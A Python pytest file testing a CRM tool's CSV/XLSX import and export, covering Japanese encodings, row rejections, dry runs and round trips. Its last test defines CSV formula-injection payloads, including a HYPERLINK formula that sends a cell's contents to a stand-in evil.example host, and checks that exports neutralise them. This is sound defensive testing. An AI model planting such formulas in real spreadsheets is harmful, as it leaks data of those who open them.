"""`crm-bot import` and `crm-bot export` as a user runs them: output, exit status, and what is stored."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, select, text
from sqlalchemy.orm import Session

from crm_core.models import Customer
from tests.conftest import CliResult, empty_all_tables

Crm = Callable[..., CliResult]
COLUMN_READING = re.compile(r"'.*' → .+")

CUSTOMERS = (
    "external_id,name,email,phone,company,owner,tags,業種\n"
    "C1,田中 太郎,taro@example.jp,090-1234-5678,株式会社さくら商事,U0SALES1,vip;newsletter,製造\n"
    "C2,ｱｸﾒ Trading,info@acme.example,,,U0SALES2,,小売\n"
)
PURCHASES = (
    'customer,occurred_at,amount,currency,external_id\nC1,2026-11-01,"1,200",,O1\nC2,2026/11/02,500,,O2\n'
)
INTERACTIONS = (
    "customer,occurred_at,kind,summary,author\nC1,2026-11-03 10:00,call,電話で見積もりの相談,U0SALES1\n"
)


def rows(engine: Engine, sql: str) -> list[tuple[object, ...]]:
    with engine.connect() as connection:
        return [tuple(row) for row in connection.execute(text(sql))]


def stored_counts(engine: Engine) -> tuple[object, ...]:
    return rows(
        engine,
        "select (select count(*) from customers), (select count(*) from purchases), "
        "(select count(*) from interactions), (select count(*) from audit_events)",
    )[0]


def reported(stderr: str) -> list[str]:
    """stderr's lines after the column readings every import starts with."""
    lines = stderr.splitlines()
    while lines and COLUMN_READING.fullmatch(lines[0]):
        lines.pop(0)
    return lines


def write(path: Path, content: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(content.encode(encoding))
    return path


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_csv_in_each_encoding_imports_japanese_intact(
    crm: Crm, engine: Engine, tmp_path: Path, encoding: str
) -> None:
    result = crm("import", "customers", str(write(tmp_path / "c.csv", CUSTOMERS, encoding)))
    assert (result.exit_code, result.stdout) == (
        0,
        "imported 2 customers, 0 updated, 0 unchanged, 0 rejected\n",
    )
    assert rows(engine, "select name, company from customers order by external_id") == [
        ("田中 太郎", "株式会社さくら商事"),
        ("ｱｸﾒ Trading", None),
    ]
    with Session(engine) as session:
        assert session.scalars(select(Customer.custom_fields).order_by(Customer.external_id)).all() == [
            {"業種": "製造"},
            {"業種": "小売"},
        ]


def test_xlsx_imports_japanese_intact(crm: Crm, engine: Engine, tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for line in CUSTOMERS.splitlines():
        sheet.append(line.split(","))
    workbook.save(tmp_path / "c.xlsx")
    assert crm("import", "customers", str(tmp_path / "c.xlsx")).exit_code == 0
    assert rows(engine, "select name from customers order by external_id") == [
        ("田中 太郎",),
        ("ｱｸﾒ Trading",),
    ]


def test_rejected_rows_are_listed_by_line_and_the_valid_ones_imported(
    crm: Crm, engine: Engine, tmp_path: Path
) -> None:
    crm("import", "customers", str(write(tmp_path / "c.csv", CUSTOMERS)))
    purchases = (
        "customer,occurred_at,amount\n"
        "C1,2026-11-01,100\n"
        "C9,2026-11-01,100\n"
        "C1,yesterday,100\n"
        "C2,2026-11-02,100\n"
    )
    result = crm("import", "purchases", str(write(tmp_path / "p.csv", purchases)))
    assert result.exit_code == 1
    assert reported(result.stderr) == [
        "line 3: customer 'C9' is not known (looked up by external_id, e-mail and exact name): "
        "import the customers first",
        "line 4: occurred_at 'yesterday' is not a date such as 2026-11-25 or 2026-11-25 14:30",
    ]
    assert result.stdout == "imported 2 purchases, 0 unchanged, 2 rejected\n"
    assert rows(engine, "select count(*) from purchases") == [(2,)]


def test_line_numbers_count_the_lines_of_multi_line_summaries(crm: Crm, tmp_path: Path) -> None:
    crm("import", "customers", str(write(tmp_path / "c.csv", CUSTOMERS)))
    interactions = (
        "customer,occurred_at,kind,summary\n"
        'C1,2026-11-01,call,"Long call:\nprices\nand dates"\n'
        "C1,2026-11-02,lunch,Ate\n"
    )
    result = crm("import", "interactions", str(write(tmp_path / "i.csv", interactions)))
    assert reported(result.stderr) == [
        "line 5: kind 'lunch' is not one of call, meeting, email, chat, note, support, purchase"
    ]


@pytest.mark.parametrize(
    ("entity", "content", "expected"),
    [
        ("customers", None, "no such file"),
        ("customers", "", "the file is empty; expected a header row and data rows"),
        ("customers", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "looks like a binary file, not CSV or XLSX"),
        ("customers", "name\n田中\n".encode("utf-16"), "is UTF-16 text; save it as CSV UTF-8"),
        ("customers", b"name\nJos\xe9,S\xe3o Paulo\n", "is neither UTF-8 nor Shift_JIS (CP932) text"),
        ("customers", "email,phone\na@b.jp,\n", "missing column name; found: email, phone."),
        (
            "purchases",
            "customer,when,amount\nC1,2026-11-01,1\n",
            "missing column occurred_at; found: customer, when, amount.",
        ),
        ("interactions", "customer,occurred_at,kind,summary,mood\n", "unknown column mood."),
    ],
)
def test_unreadable_files_get_their_own_message_and_write_nothing(
    crm: Crm, engine: Engine, tmp_path: Path, entity: str, content: str | bytes | None, expected: str
) -> None:
    path = tmp_path / "input.csv"
    if content is not None:
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    result = crm("import", entity, str(path))
    assert result.exit_code == 2
    assert result.stderr.startswith(f"crm-bot: {path}: ")
    assert expected in result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert stored_counts(engine) == (0, 0, 0, 0)


def test_a_directory_and_an_unknown_entity_are_refused(crm: Crm, engine: Engine, tmp_path: Path) -> None:
    directory = crm("import", "customers", str(tmp_path))
    assert (directory.exit_code, directory.stderr) == (
        2,
        f"crm-bot: {tmp_path}: is a directory; give the path of a CSV or XLSX file\n",
    )
    unknown = crm("import", "orders", str(write(tmp_path / "o.csv", PURCHASES)))
    assert unknown.exit_code == 2
    assert "'orders' is not one of 'customers', 'purchases', 'interactions'" in unknown.stderr
    assert stored_counts(engine) == (0, 0, 0, 0)


def test_header_only_file_imports_nothing_and_says_so(crm: Crm, tmp_path: Path) -> None:
    path = write(tmp_path / "p.csv", "customer,occurred_at,amount\n")
    result = crm("import", "purchases", str(path))
    assert result.exit_code == 0
    assert reported(result.stderr) == [f"{path}: no rows below the header"]
    assert result.stdout == "imported 0 purchases, 0 unchanged, 0 rejected\n"


def test_dry_run_reports_exact_counts_and_writes_nothing(crm: Crm, engine: Engine, tmp_path: Path) -> None:
    path = write(tmp_path / "c.csv", CUSTOMERS + "C3,,,,,,,\n")
    result = crm("import", "customers", str(path), "--dry-run")
    assert result.exit_code == 1
    assert reported(result.stderr) == ["line 4: name is empty"]
    assert result.stdout == (
        "dry run: would import 2 customers, 0 updated, 0 unchanged, 1 rejected; nothing was written\n"
    )
    assert stored_counts(engine) == (0, 0, 0, 0)


def test_importing_the_same_files_twice_changes_nothing(crm: Crm, engine: Engine, tmp_path: Path) -> None:
    files = {
        "customers": write(tmp_path / "c.csv", CUSTOMERS),
        "purchases": write(tmp_path / "p.csv", PURCHASES),
        "interactions": write(tmp_path / "i.csv", INTERACTIONS),
    }
    for entity, path in files.items():
        assert crm("import", entity, str(path)).exit_code == 0
    before = stored_counts(engine)
    second = [crm("import", entity, str(path)).stdout for entity, path in files.items()]
    assert second == [
        "imported 0 customers, 0 updated, 2 unchanged, 0 rejected\n",
        "imported 0 purchases, 2 unchanged, 0 rejected\n",
        "imported 0 interactions, 1 unchanged, 0 rejected\n",
    ]
    assert stored_counts(engine)[:3] == before[:3] == (2, 2, 1)


def test_export_then_import_into_an_empty_store_gives_the_same_data(
    crm: Crm, engine: Engine, tmp_path: Path
) -> None:
    assert crm("demo-data", "--customers", "40", "--seed", "7").exit_code == 0
    crm(
        "import",
        "purchases",
        str(write(tmp_path / "extra.csv", "customer,occurred_at,amount\nC7-00001,2026-01-02,12.5\n")),
    )
    entities = ("customers", "purchases", "interactions")
    first = {entity: tmp_path / f"first-{entity}.csv" for entity in entities}
    for entity, path in first.items():
        result = crm("export", entity, str(path))
        assert result.exit_code == 0 and result.stderr.startswith("exported ")
    empty_all_tables(engine)
    for entity, path in first.items():
        assert crm("import", entity, str(path)).exit_code == 0
    for entity, path in first.items():
        again = crm("export", entity, "-")
        assert again.exit_code == 0
        assert again.stdout == path.read_text(encoding="utf-8")
        assert again.stdout.count("\n") > 10


def test_export_columns_are_the_import_columns(crm: Crm, tmp_path: Path) -> None:
    for entity, content in (
        ("customers", CUSTOMERS),
        ("purchases", PURCHASES),
        ("interactions", INTERACTIONS),
    ):
        crm("import", entity, str(write(tmp_path / f"{entity}.csv", content)))
    exported = {
        entity: crm("export", entity, "-").stdout for entity in ("customers", "purchases", "interactions")
    }
    assert exported["customers"].splitlines() == [
        "external_id,name,email,phone,company,owner,tags,業種",
        "C1,田中 太郎,taro@example.jp,090-1234-5678,株式会社さくら商事,U0SALES1,newsletter;vip,製造",
        "C2,ｱｸﾒ Trading,info@acme.example,,,U0SALES2,,小売",
    ]
    assert exported["purchases"].splitlines() == [
        "customer,occurred_at,amount,currency,external_id",
        "C1,2026-11-01 00:00:00,1200,JPY,O1",
        "C2,2026-11-02 00:00:00,500,JPY,O2",
    ]
    assert exported["interactions"].splitlines() == [
        "customer,occurred_at,kind,summary,author",
        "C1,2026-11-03 10:00:00,call,電話で見積もりの相談,U0SALES1",
    ]


def test_export_to_an_unwritable_place_fails_cleanly(crm: Crm, tmp_path: Path) -> None:
    result = crm("export", "customers", str(tmp_path / "missing-dir" / "c.csv"))
    assert result.exit_code == 2
    assert result.stderr.startswith("crm-bot: cannot write ") and "No such file or directory" in result.stderr


def test_a_new_customer_named_like_an_existing_one_is_imported_with_a_warning(
    crm: Crm, engine: Engine, tmp_path: Path
) -> None:
    assert crm("customers", "add", "株式会社アクメ", "--external-id", "C-1").exit_code == 0
    file = write(tmp_path / "c.csv", "external_id,name\nC-2,ｱｸﾒ\nC-3,Globex\nC-4,globex inc.\n")
    result = crm("import", "customers", str(file))
    assert result.exit_code == 0, result.stderr
    warnings = reported(result.stderr)
    assert warnings[0].startswith("line 2: warning: likely duplicate of C-1 (株式会社アクメ)")
    assert "crm-bot customers merge C-1 C-2" in warnings[0]
    assert warnings[1].startswith("line 4: warning: likely duplicate of C-3 (Globex)")
    assert len(warnings) == 2
    assert rows(engine, "select count(*) from customers") == [(4,)]


def test_every_import_first_says_how_it_read_each_column(crm: Crm, engine: Engine, tmp_path: Path) -> None:
    result = crm("import", "customers", str(Path(__file__).parents[2] / "data" / "hubspot_contacts.csv"))
    assert (result.exit_code, result.stdout) == (
        0,
        "imported 3 customers, 0 updated, 0 unchanged, 0 rejected\n",
    )
    assert result.stderr.splitlines() == [
        "'Record ID' → external_id",
        "'First Name' → name (given name)",
        "'Last Name' → name (family name)",
        "'Email' → email",
        "'Phone Number' → phone",
        "'Contact owner' → owner",
        "'Primary Associated Company ID' → custom field Primary Associated Company ID",
        "'Last Activity Date' → custom field Last Activity Date",
        "'Lead Status' → custom field Lead Status",
        "'Marketing contact status' → custom field Marketing contact status",
        "'Create Date' → custom field Create Date",
        "'Associated Company' → company",
    ]
    path = write(tmp_path / "c.csv", "Company,連絡先\nInitech,x\n")
    ambiguous = crm("import", "customers", str(path))
    assert (ambiguous.exit_code, ambiguous.stderr) == (
        2,
        f"crm-bot: {path}: column '連絡先' could be email or phone: "
        "rename it to one of those (or delete it)\n",
    )
    assert rows(engine, "select count(*) from customers") == [(3,)]


HOSTILE = {
    "customers": (
        "external_id,name,email,phone,company,tags,=cmd\n"
        'C1,"=HYPERLINK(""https://evil.example/?""&C2,""Invoice"")",a@evil.example,+81 90-1111-2222,'
        "@acme,-vip;=1+1,'t Hooft\n"
        "@C2,'=already quoted,,,,,+1\n"
    ),
    "purchases": "customer,occurred_at,amount,currency,external_id\n@C2,2026-11-01,1200.5,USD,=O1\n",
    "interactions": "customer,occurred_at,kind,summary,author\nC1,2026-11-02,call,-1+2 discussed,@U0SALES1\n",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def exported_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_exported_cells_never_run_as_formulas_and_import_back_the_same(
    crm: Crm, engine: Engine, tmp_path: Path
) -> None:
    for entity, content in HOSTILE.items():
        assert crm("import", entity, str(write(tmp_path / f"{entity}.csv", content))).exit_code == 0
    with Session(engine) as session:
        hostile = session.scalars(select(Customer).where(Customer.external_id == "C1")).one()
        assert hostile.name == '=HYPERLINK("https://evil.example/?"&C2,"Invoice")'
        assert hostile.custom_fields == {"=cmd": "'t Hooft"}
    first = {entity: crm("export", entity, "-").stdout for entity in HOSTILE}
    cells = [cell for text in first.values() for cell in exported_cells(text)]
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert {'\'=HYPERLINK("https://evil.example/?"&C2,"Invoice")', "'+81 90-1111-2222", "'@acme"} <= set(
        cells
    )
    assert {"'-vip;=1+1", "'=cmd", "''t Hooft", "'@C2", "'=already quoted", "'=O1", "'@U0SALES1"} <= set(
        cells
    )
    assert "1200.5" in cells  # amounts are numbers the exporter wrote, never quoted
    xlsx = {entity: tmp_path / f"{entity}.xlsx" for entity in HOSTILE}
    for entity, path in xlsx.items():
        assert crm("export", entity, str(path)).exit_code == 0
        sheet = load_workbook(path).worksheets[0]
        values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [
            cell.value for cell in values if cell.data_type == "f" or str(cell.value).startswith(TRIGGERS)
        ]
    for source in (first, xlsx):
        empty_all_tables(engine)
        for entity in HOSTILE:
            path = xlsx[entity] if source is xlsx else write(tmp_path / f"again-{entity}.csv", first[entity])
            assert crm("import", entity, str(path)).exit_code == 0
        assert {entity: crm("export", entity, "-").stdout for entity in HOSTILE} == first
